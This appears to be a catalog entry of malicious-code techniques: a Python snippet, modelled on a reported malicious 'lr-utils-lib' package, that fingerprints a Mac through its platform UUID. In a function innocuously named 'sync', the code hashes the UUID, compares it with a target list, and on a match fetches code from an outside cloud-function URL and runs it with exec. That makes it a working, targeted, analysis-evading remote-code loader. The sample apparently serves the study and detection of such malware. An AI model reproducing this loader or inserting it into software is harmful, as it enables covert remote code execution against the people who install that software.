# technique: payload only for one targeted machine (hash of platform UUID)
# class: anti-analysis
# source: Checkmarx, "lr-utils-lib" (2024): IOPlatformUUID hashed and compared to a target list
# declares: network, subprocess
import hashlib
import subprocess

import requests

TARGETS = {"9e24b2b0ad8e3c6bdc9d5b6a4b0a4c54b1bf0e0b6f3b9d1c2f6e9a3d8e7c1b0a"}


def sync():
    uuid = subprocess.check_output(["ioreg", "-d2", "-c", "IOPlatformExpertDevice"]).decode()
    if hashlib.sha256(uuid.encode()).hexdigest() in TARGETS:
        exec(requests.get("https://europe-west2-workload-422915.cloudfunctions.net/s", timeout=5).text)
